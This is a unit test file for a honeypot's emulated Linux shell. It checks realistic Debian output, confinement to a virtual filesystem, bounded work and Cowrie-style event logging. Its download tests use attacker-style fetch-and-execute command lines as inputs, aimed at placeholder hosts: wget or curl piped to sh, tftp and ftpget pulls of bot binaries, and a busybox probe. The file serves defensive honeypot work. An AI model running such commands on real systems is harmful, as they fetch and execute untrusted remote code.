# SPDX-License-Identifier: MIT
"""The fake shell, persona and virtual filesystem: a unit test of pure-Python emulation.

No trap, network or host file is involved: a fake ShellContext records emitted events and
answers downloads with canned FetchResults. What is checked is what an attacker would see
(output text matching Debian 12's tools) and what the sensor must guarantee (nothing escapes to
the host, everything is bounded, events follow Cowrie's semantics).
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

import pytest

from honeyfarm.sensor.config import PersonaConfig
from honeyfarm.sensor.model import Account, FetchResult
from honeyfarm.sensor.shell.commands.base import COMMANDS
from honeyfarm.sensor.shell.commands.builtins import BUILTINS
from honeyfarm.sensor.shell.fs.vfs import SessionFS
from honeyfarm.sensor.shell.persona import Persona
from honeyfarm.sensor.shell.shell import Result, Shell

ROOT = Account("root", 0, 0, "/root")
ADMIN = Account("admin", 1000, 1000, "/home/admin")
PAYLOAD = b"#!/bin/sh\necho payload-ran\n"


class FakeCtx:
    def __init__(self, account: Account, result: FetchResult | str | None = "ok") -> None:
        self.account = account
        self.protocol = "ssh"
        self.src_ip = "203.0.113.7"
        self.events: list[tuple[str, dict[str, Any]]] = []
        self.urls: list[tuple[str, str]] = []
        self.result = result

    def emit(self, eventid: str, /, **fields: Any) -> None:
        self.events.append((eventid, fields))

    async def download(self, url: str, command: str) -> FetchResult | None:
        self.urls.append((url, command))
        if self.result == "ok":
            return FetchResult(url=url, ok=True, sha256="0" * 64, size=4321, head=PAYLOAD, content_type="text/x-sh")
        assert not isinstance(self.result, str)
        return self.result


PERSONA = Persona.from_config(PersonaConfig(), time.time())


def make(account: Account = ROOT, result: FetchResult | str | None = "ok", cap: int = 4 * 1024 * 1024) -> Shell:
    ctx = FakeCtx(account, result)
    return Shell(ctx, PERSONA, SessionFS(PERSONA, account, max_bytes=cap), max_line_bytes=16 * 1024)


def run(sh: Shell, *lines: str) -> Result:
    async def go() -> Result:
        res = Result("")
        for line in lines:
            res = await sh.run_line(line)
        return res

    return asyncio.run(go())


def out(sh: Shell, line: str) -> str:
    return run(sh, line).output


def events(sh: Shell, eventid: str) -> list[dict[str, Any]]:
    ctx = sh.ctx
    assert isinstance(ctx, FakeCtx)
    return [f for e, f in ctx.events if e == eventid]


def urls(sh: Shell) -> list[str]:
    ctx = sh.ctx
    assert isinstance(ctx, FakeCtx)
    return [u for u, _ in ctx.urls]


# --- prompt, identity, machine facts -------------------------------------------------------------------------------


def test_prompt_root_and_user() -> None:
    assert make().prompt() == "root@web-01:~# "
    sh = make(ADMIN)
    assert sh.prompt() == "admin@web-01:~$ "
    run(sh, "cd /tmp")
    assert sh.prompt() == "admin@web-01:/tmp$ "


def test_id_whoami_consistent_across_sessions() -> None:
    assert out(make(), "id") == "uid=0(root) gid=0(root) groups=0(root)\n"
    a, b = make(ADMIN), make(ADMIN)
    assert out(a, "id") == out(b, "id")
    assert out(a, "id").startswith("uid=1000(admin) gid=1000(admin) groups=1000(admin),")
    assert out(a, "whoami") == "admin\n"
    assert "admin:x:1000:1000:" in out(a, "cat /etc/passwd")
    other = make(Account("oracle", 1001, 1001, "/home/oracle"))
    assert out(other, "id") == "uid=1001(oracle) gid=1001(oracle) groups=1001(oracle)\n"
    assert "oracle:x:1001:1001::/home/oracle:/bin/bash" in out(other, "cat /etc/passwd")


def test_uname_and_proc() -> None:
    sh = make()
    assert out(sh, "uname -a") == (
        "Linux web-01 6.1.0-28-cloud-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n"
    )
    assert out(sh, "uname") == "Linux\n"
    assert out(sh, "uname -r -m") == "6.1.0-28-cloud-amd64 x86_64\n"
    assert out(sh, "uname -n -o") == "web-01 GNU/Linux\n"
    assert out(sh, "nproc") == "2\n"
    assert out(sh, "grep -c processor /proc/cpuinfo") == "2\n"
    assert "flags\t\t: fpu" in out(sh, "cat /proc/cpuinfo")
    assert out(sh, "head -n 1 /proc/meminfo") == "MemTotal:        1000000 kB\n"
    assert out(sh, "cat /etc/debian_version") == "12.8\n"
    assert "VERSION_CODENAME=bookworm" in out(sh, "cat /etc/os-release")
    assert out(sh, "hostname") == "web-01\n"
    assert "Model name:" in out(sh, "lscpu")


def test_ps_free_w_uptime() -> None:
    sh = make()
    ps = out(sh, "ps aux")
    assert ps.startswith("USER         PID %CPU %MEM")
    for name in ("/sbin/init", "sshd", "cron", "rsyslogd", "-bash", "ps aux"):
        assert name in ps
    assert out(sh, "ps").splitlines()[1].split()[-1] == "bash"
    assert out(sh, "ps -ef").startswith("UID          PID    PPID  C STIME TTY          TIME CMD\n")
    pid = str(PERSONA.bash_pid)
    assert pid in out(make(), "ps") and pid in out(make(ADMIN), "ps")  # stable per persona
    free = out(sh, "free -m").splitlines()
    assert free[0].split() == ["total", "used", "free", "shared", "buff/cache", "available"]
    assert free[1].split()[1] == str(1_000_000 // 1024)
    assert "Mi" in out(sh, "free -h")
    assert "up 47 days" in out(sh, "uptime")
    assert "load average:" in out(sh, "w") and "203.0.113.7" in out(sh, "w")


# --- parsing and expansion ---------------------------------------------------------------------------------------


def test_echo_escapes() -> None:
    sh = make()
    assert out(sh, r"echo -e '\x41\x4b\x34\x37'") == "AK47\n"
    assert out(sh, r"echo -e 'a\tb\nc\0101'") == "a\tb\ncA\n"
    assert out(sh, r"echo -ne 'x\cignored'") == "x"
    assert out(sh, "echo -n hi") == "hi"
    assert out(sh, r"echo 'a\nb'") == "a\\nb\n"
    assert out(sh, r"printf '%s=%d\n' a 1 b 2") == "a=1\nb=2\n"
    assert out(sh, r"printf '\x48\x49\n'") == "HI\n"


def test_quotes_variables_and_status() -> None:
    sh = make(ADMIN)
    assert out(sh, """echo "a  b" 'c $HOME' $HOME ${USER} ~""") == "a  b c $HOME /home/admin admin /home/admin\n"
    assert out(sh, "export FOO='x y'; echo $FOO ${#FOO}") == "x y 3\n"
    assert out(sh, "false; echo $?") == "1\n"
    assert out(sh, "nosuch; echo $?") == "-bash: nosuch: command not found\n127\n"
    assert out(sh, "echo $((6*7))") == "42\n"
    assert out(sh, "unset FOO; echo ${FOO:-default}") == "default\n"
    assert "PATH=/usr/local/bin:/usr/bin:/bin" in out(sh, "env")


def test_chains_and_pipes() -> None:
    sh = make()
    assert out(sh, "echo a; echo b") == "a\nb\n"
    assert out(sh, "true && echo yes || echo no") == "yes\n"
    assert out(sh, "false && echo yes || echo no") == "no\n"
    assert out(sh, "cat /etc/passwd | grep root | wc -l") == "1\n"
    assert out(sh, "echo hello | tr a b") == "hello\n"  # not emulated: passes input through
    assert out(sh, "for i in 1 2 3; do echo n$i; done") == "n1\nn2\nn3\n"
    assert out(sh, "if [ -d /tmp ]; then echo dir; fi") == "dir\n"
    assert out(sh, "echo $(echo inner) `whoami`") == "inner root\n"
    assert out(sh, "bash -c 'echo via-bash'; sh -c \"echo via-sh\"") == "via-bash\nvia-sh\n"
    assert out(sh, "while true; do echo x; done | head -n 2") == "x\nx\n"


def test_syntax_errors() -> None:
    sh = make()
    res = run(sh, "ls ;; ls")
    assert res.output == "-bash: syntax error near unexpected token `;;'\n" and res.status == 2
    assert out(sh, "| ls") == "-bash: syntax error near unexpected token `|'\n"
    assert out(sh, "echo >") == "-bash: syntax error near unexpected token `newline'\n"
    assert out(sh, "done") == "-bash: syntax error near unexpected token `done'\n"
    assert "unexpected EOF" in out(sh, "echo 'open")


def test_unknown_command_and_events() -> None:
    sh = make()
    res = run(sh, "foo --bar; ls /tmp")
    assert res.output == "-bash: foo: command not found\n"
    assert events(sh, "cowrie.command.input") == [{"command": "foo --bar; ls /tmp"}]
    assert events(sh, "cowrie.command.failed") == [{"command": "foo --bar"}]
    run(sh, "   ")
    assert len(events(sh, "cowrie.command.input")) == 1
    for missing in ("ifconfig", "netstat", "python"):
        res = run(sh, missing)
        assert res.output == f"-bash: {missing}: command not found\n" and res.status == 127
    assert out(sh, "python3 --version") == "Python 3.11.2\n"


def test_every_command_is_installed() -> None:
    root, admin = make(), make(ADMIN)
    for name in set(COMMANDS) - BUILTINS - {"ash", "usleep", "time", "busybox"}:  # busybox: the IoT persona only
        assert root.find_in_path(name) is not None, name
    assert admin.find_in_path("service") is None  # /usr/sbin is not in a user's PATH on Debian
    assert out(admin, "useradd x") == "-bash: useradd: command not found\n"
    assert out(root, "which ls wget") == "/usr/bin/ls\n/usr/bin/wget\n"
    assert out(admin, "type ls cd") == "ls is aliased to `ls --color=auto'\ncd is a shell builtin\n"


# --- filesystem ------------------------------------------------------------------------------------------------------


def test_redirection_overlay_and_readback() -> None:
    sh = make()
    assert out(sh, "cd /tmp; echo one > f; echo two >> f; cat f") == "one\ntwo\n"
    assert out(sh, "cat < /tmp/f | wc -l") == "2\n"
    assert out(sh, "ls nosuch 2>/dev/null; echo $?") == "2\n"
    assert out(sh, "ls nosuch 2>&1 | wc -l") == "1\n"
    assert out(sh, "mkdir -p /tmp/a/b && touch /tmp/a/b/c && ls /tmp/a/b") == "c\n"
    assert out(sh, "cp /tmp/f /tmp/g; mv /tmp/g /tmp/h; cat /tmp/h; ls /tmp/g") == (
        "one\ntwo\nls: cannot access '/tmp/g': No such file or directory\n"
    )
    assert out(sh, "rm /tmp/h; cat /tmp/h") == "cat: /tmp/h: No such file or directory\n"
    assert out(sh, "chmod 700 /tmp/f; ls -l /tmp/f").startswith("-rwx------ 1 root root 8 ")
    assert out(make(), "cat /tmp/f") == "cat: /tmp/f: No such file or directory\n"  # per-session overlay


def test_ls_formats() -> None:
    sh = make(ADMIN)
    assert out(sh, "ls -a") == ".  ..  .bash_logout  .bashrc  .profile  .ssh\n"
    listing = out(sh, "ls -la").splitlines()
    assert listing[0].startswith("total ")
    assert listing[1].startswith("drwx------ 2 admin admin 4096 ")
    assert out(sh, "ls -ld /tmp").startswith("drwxrwxrwt 2 root root 4096 ")
    assert "bin -> usr/bin" in out(sh, "ls -l /")
    assert out(sh, "ls /nope") == "ls: cannot access '/nope': No such file or directory\n"


def test_overlay_cap() -> None:
    sh = make(cap=4096)
    res = run(sh, "cd /tmp; printf '%3000s' x > a; printf '%3000s' y > b")
    assert "No space left on device" in res.output
    assert out(sh, "wc -c /tmp/a") == "3000 /tmp/a\n"
    assert "No space left on device" in out(sh, "mkdir " + " ".join(f"/tmp/m{i}" for i in range(20)))
    assert "File name too long" in out(sh, "mkdir /tmp/" + "d" * 300)


def test_path_traversal_stays_virtual(tmp_path: Path) -> None:
    sh = make(ADMIN)
    run(sh, "cd /tmp")
    assert out(sh, "cat ../../../../etc/passwd") == PERSONA.passwd(ADMIN)
    assert out(sh, "cat /../../etc/hostname") == "web-01\n"
    assert out(sh, "cat /etc/shadow") == "cat: /etc/shadow: Permission denied\n"
    assert out(sh, "ls /root") == "ls: cannot open directory '/root': Permission denied\n"
    assert out(sh, "cd /root") == "-bash: cd: /root: Permission denied\n"
    assert out(sh, "echo x > /etc/passwd") == "-bash: /etc/passwd: Permission denied\n"
    assert out(sh, "dmesg") == "dmesg: read kernel buffer failed: Operation not permitted\n"
    secret = tmp_path / "host-secret.txt"
    secret.write_text("HOST CONTENT\n")
    for line in (f"cat {secret}", f"cat {tmp_path}/../{tmp_path.name}/host-secret.txt", f"ls {tmp_path}"):
        text = out(make(), line)
        assert "HOST CONTENT" not in text and "No such file or directory" in text
    assert "root:" in out(make(), "cat /etc/shadow")  # root may read the *virtual* shadow


def test_busybox() -> None:
    # Debian 12 cloud images ship no BusyBox: bash answers as it does for any missing program
    sh = make()
    res = run(sh, "/bin/busybox ECCHI")
    assert res.output == "-bash: /bin/busybox: No such file or directory\n" and res.status == 127
    assert out(sh, "busybox; echo $?") == "-bash: busybox: command not found\n127\n"


def test_sudo_su_apt_crontab_passwd() -> None:
    root, admin = make(), make(ADMIN)
    assert out(root, "sudo id") == "uid=0(root) gid=0(root) groups=0(root)\n"
    assert "a terminal is required" in out(admin, "sudo id")
    assert out(root, "crontab -l") == "no crontab for root\n"
    assert "Authentication token manipulation error" in out(root, "passwd")
    assert "are you root?" in out(admin, "apt-get install curl")
    assert "Could not get lock" in out(root, "apt install x")
    assert out(admin, "su -c id") == "Password: \nsu: Authentication failure\n"
    assert "inet 172.31." in out(root, "ip a")
    assert "LISTEN" in out(root, "ss -tln")


def test_exit() -> None:
    res = run(make(), "exit")
    assert res.exit and res.output == "logout\n"
    res = run(make(), "echo a; logout; echo never")
    assert res.exit and res.output == "a\nlogout\n"
    assert not run(make(), "sh -c 'exit 3'").exit


# --- downloads -------------------------------------------------------------------------------------------------------


def test_wget_saves_file_with_size() -> None:
    sh = make()
    res = run(sh, "cd /tmp; wget http://198.51.100.9/bins/x86 -q; ls -l x86")
    assert urls(sh) == ["http://198.51.100.9/bins/x86"]
    ctx = sh.ctx
    assert isinstance(ctx, FakeCtx) and ctx.urls[0][1] == "wget http://198.51.100.9/bins/x86 -q"
    assert " 4321 " in res.output and res.output.rstrip().endswith("x86")
    assert out(sh, "chmod +x x86; ./x86") == "payload-ran\n"  # a shell script runs in the emulator
    text = out(sh, "wget 198.51.100.9/a.sh")
    assert "Saving to: ‘a.sh’" in text and "Length: 4321 (4.2K) [text/x-sh]" in text
    assert urls(sh)[-1] == "http://198.51.100.9/a.sh"
    run(sh, "wget -O /tmp/renamed http://h.example/z; wget -qO- http://h.example/y")
    assert urls(sh)[-2:] == ["http://h.example/z", "http://h.example/y"]
    assert out(sh, "cat /tmp/renamed") == PAYLOAD.decode()
    assert out(sh, "wget -q -O- http://h.example/") == PAYLOAD.decode()
    assert out(sh, "wget -q http://h.example/; ls index.html") == "index.html\n"


def test_elf_download_segfaults() -> None:
    elf = FetchResult(url="x", ok=True, size=90_000, head=b"\x7fELF\x02\x01\x01" + b"\0" * 11 + b"\x3e\x00")
    sh = make(result=elf)
    res = run(sh, "cd /tmp; wget -q http://192.0.2.1/m; chmod 777 m; ./m")
    assert res.output == "Segmentation fault\n" and res.status == 139
    assert out(sh, "./nothere") == "-bash: ./nothere: No such file or directory\n"
    assert out(sh, "touch t; ./t") == "-bash: ./t: Permission denied\n"


def test_wget_failures() -> None:
    assert "failed: Connection refused." in out(make(result=None), "wget http://192.0.2.1/x")
    dns = out(make(result=None), "wget http://no.such.example/x")
    assert "failed: Name or service not known." in dns and "unable to resolve host address" in dns
    r404 = FetchResult(url="u", ok=False, reason="HTTP 404")
    text = out(make(result=r404), "wget http://192.0.2.1/x")
    assert "ERROR 404: Not Found." in text
    blocked = FetchResult(url="u", ok=False, reason="blocked: loopback address 127.0.0.1")
    assert "Connection refused" in out(make(result=blocked), "wget http://127.0.0.1/x")
    assert out(make(result=None), "curl http://192.0.2.1/x").startswith("curl: (7) Failed to connect to 192.0.2.1")
    assert out(make(result=None), "curl -s http://192.0.2.1/x") == ""


def test_curl_url_extraction() -> None:
    sh = make()
    assert out(sh, "curl http://192.0.2.5/a.sh") == PAYLOAD.decode()
    run(sh, "cd /tmp; curl -s -L -o out.bin http://192.0.2.5/b; curl -O http://192.0.2.5/dir/c.sh")
    run(sh, "curl -fsSL -A 'Mozilla/5.0' https://example.org/d | sh")
    assert urls(sh) == [
        "http://192.0.2.5/a.sh",
        "http://192.0.2.5/b",
        "http://192.0.2.5/dir/c.sh",
        "https://example.org/d",
    ]
    assert out(sh, "ls out.bin c.sh") == "c.sh  out.bin\n"
    assert out(sh, "ls out.bin c.sh | cat") == "c.sh\nout.bin\n"
    assert out(sh, "curl -fsSL http://192.0.2.5/e | sh") == "payload-ran\n"


def test_tftp_ftpget_url_extraction() -> None:
    sh = make()
    run(sh, "cd /tmp; tftp -g -r mips 192.0.2.7; tftp -l loc -r bins/arm -g 192.0.2.7 6969")
    run(sh, "tftp 192.0.2.8 -c get arm7; tftp -g -r sh4 192.0.2.9")
    run(sh, "ftpget -u anon -p 'p@ss' -P 2121 192.0.2.10 local.bin /pub/remote.bin; ftpget 192.0.2.11 x y")
    assert urls(sh) == [
        "tftp://192.0.2.7:69/mips",
        "tftp://192.0.2.7:6969/bins/arm",
        "tftp://192.0.2.8:69/arm7",
        "tftp://192.0.2.9:69/sh4",
        "ftp://anon:p%40ss@192.0.2.10:2121/pub/remote.bin",
        "ftp://192.0.2.11/y",
    ]
    assert out(sh, "ls") == "arm7  loc  local.bin  mips  sh4  x\n"


# --- bounds ----------------------------------------------------------------------------------------------------------


def test_output_and_work_are_bounded() -> None:
    sh = make()
    res = run(sh, "yes")
    assert 0 < len(res.output) <= 1 << 20
    res = run(sh, "yes spam | head -n 3")
    assert res.output == "spam\nspam\nspam\n"
    res = run(sh, "while true; do echo loop; done")
    assert res.output.count("loop") <= 64
    res = run(sh, "; ".join(["echo z"] * 200))
    assert res.output.count("z") == 64
    start = time.monotonic()
    run(sh, "sleep 100; sleep 100")
    assert time.monotonic() - start < 2
    res = run(sh, "cat /dev/zero | wc -c")
    assert int(res.output) <= 1 << 20


def test_deep_substitution_bounded() -> None:
    sh = make()
    line = "echo " + "$(echo " * 200 + "deep" + ")" * 200
    res = run(sh, line)
    assert "maximum nesting level exceeded" in res.output
    res = run(sh, "echo " + "(" * 5000)
    assert res.output.startswith("-bash: syntax error")
    shallow = "echo " + "$(echo " * 3 + "ok" + ")" * 3
    assert out(sh, shallow) == "ok\n"


def test_huge_line_is_capped() -> None:
    sh = make()
    res = run(sh, "echo " + "A" * 1_000_000)
    assert res.output == "A" * (16 * 1024 - 5) + "\n"
    assert len(events(sh, "cowrie.command.input")[0]["command"]) == 16 * 1024
    res = run(sh, "echo '" + "a" * 1_000_000)
    assert "unexpected EOF" in res.output
    assert out(sh, "''") == "-bash: : command not found\n"


@pytest.mark.parametrize(
    "line",
    [
        "echo $((" + "(" * 400 + "1" + ")" * 400 + "))",
        "printf '%99999999d' 1",
        "A=$(printf '%4000s' x); echo " + "$A" * 3000,
        "ls /usr/bin/" + "*a" * 3000,
        "cd /tmp; cp -r /tmp /tmp/x; mkdir -p " + "d/" * 2000 + "; rm -rf d",
    ],
)
def test_hostile_input_is_bounded(line: str) -> None:
    start = time.monotonic()
    res = run(make(), line)
    assert len(res.output) <= 1 << 20
    assert time.monotonic() - start < 5
